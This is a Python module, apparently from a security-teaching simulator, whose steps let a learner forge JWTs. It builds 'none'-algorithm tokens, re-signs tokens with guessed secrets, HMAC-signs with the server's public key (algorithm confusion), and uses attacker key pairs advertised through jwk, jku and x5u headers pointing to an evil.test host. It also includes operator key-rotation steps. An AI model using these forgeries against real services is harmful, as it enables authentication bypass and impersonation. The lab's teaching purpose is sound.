"""Step actions on tokens and keys: a learner editing and re-signing a JWT as an attacker
does (including the attacks on real libraries: a public key as an HMAC secret, a key of
the attacker's own embedded or pointed to), and an operator rotating the server's keys."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from typing import Any

import jwt

from tutor.browser.browser import Browser
from tutor.jwtcheck.attacker import attacker_key
from tutor.scenes.model import Step
from tutor.scenes.page_script import page_tokens, put_token
from tutor.scenes.step_io import StepFailed, StepIO, response_json
from tutor.scenes.world import World
from tutor.server.attacker_keys import ATTACKER_CERT_URL, ATTACKER_JWKS_URL
from tutor.server.keys import pem_from_jwk
from tutor.server.naive import sign_hmac


def _b64(data: Mapping[str, Any]) -> str:
    raw = json.dumps(data, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


async def tamper_token(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    token = page_tokens(world, browser).get("access_token")
    if not token:
        raise StepFailed(f"no access token in {world.scene.page_keeps} to tamper with")
    header = jwt.get_unverified_header(token)
    claims = jwt.decode(token, options={"verify_signature": False})
    header.update(step.params.get("header", {}))
    claims.update(step.params.get("claims", {}))
    signature = step.params.get("signature", "keep")
    embed = step.params.get("embed")
    if embed and signature != "attacker_key":
        raise StepFailed(f"embed: {embed} needs signature: attacker_key (the key it points to)")
    if signature == "public_key":
        forged = await _signed_with_public_key(world, browser, header, claims, io)
    else:
        io.user(f"{step.actor} edits the token in devtools ({_SIGNATURES[signature]})")
        forged = _forged(world, step, token, header, claims, signature, embed)
    put_token(world, browser, "access_token", forged)


_SIGNATURES = {
    "keep": "keep signature", "none": "none signature", "resign": "resign signature",
    "attacker_key": "signed with the attacker's own key pair",
}


def _forged(world: World, step: Step, token: str, header: dict[str, Any],
            claims: dict[str, Any], signature: str, embed: str | None) -> str:
    if signature == "none":
        header["alg"] = "none"
        return f"{_b64(header)}.{_b64(claims)}."
    if signature == "resign":
        secret = step.params.get("secret")
        if secret is None:
            raise StepFailed("signature: resign needs the `secret` to sign with")
        # By hand: PyJWT refuses the empty key of the kid attack, and warns on short ones.
        return sign_hmac(header, claims, secret.encode())
    if signature == "attacker_key":
        algorithm = world.scene.server.algorithm
        if algorithm == "HS256":
            algorithm = "EdDSA"  # a key pair of the attacker's own: any asymmetric one
        own = attacker_key(algorithm)
        header.update({"alg": own.algorithm, "kid": own.kid})
        if embed == "jwk":
            header["jwk"] = own.public_jwk
        elif embed == "jku":
            header["jku"] = ATTACKER_JWKS_URL
        elif embed == "x5u":
            if own.algorithm != "EdDSA":
                raise StepFailed("evil.test's certificate holds its EdDSA key: use an "
                                 "EdDSA server for x5u")
            header["x5u"] = ATTACKER_CERT_URL
        return jwt.encode(claims, own.private_key, algorithm=own.algorithm, headers=header)
    return f"{_b64(header)}.{_b64(claims)}.{token.rsplit('.', 1)[1]}"


async def _signed_with_public_key(world: World, browser: Browser, header: dict[str, Any],
                                  claims: dict[str, Any], io: StepIO) -> str:
    """Algorithm confusion as the attacker does it: download the server's key set, turn
    its first key into PEM, and HMAC-sign an HS256 token with those bytes."""
    io.user(f"{browser.name} downloads the server's public key from its JWKS")
    result = await browser.fetch(world.url("/.well-known/jwks.json"), "GET")
    keys = response_json(result).get("keys")
    if not isinstance(keys, list) or not keys or not isinstance(keys[0], dict):
        raise StepFailed("the server publishes no key set (HS256 has no public key)")
    io.user(f"{browser.name} signs the edited token with HS256, keyed with that PEM")
    return sign_hmac(header, claims, pem_from_jwk(keys[0]))


async def rotate_keys(world: World, step: Step, io: StepIO) -> None:
    io.user("the operator rotates the server's signing key")
    try:
        world.server.rotate_keys()
    except ValueError as exc:
        raise StepFailed(str(exc)) from None


async def retire_key(world: World, step: Step, io: StepIO) -> None:
    io.user("the operator removes the old key from the server's key set")
    try:
        world.server.retire_key()
    except ValueError as exc:
        raise StepFailed(str(exc)) from None


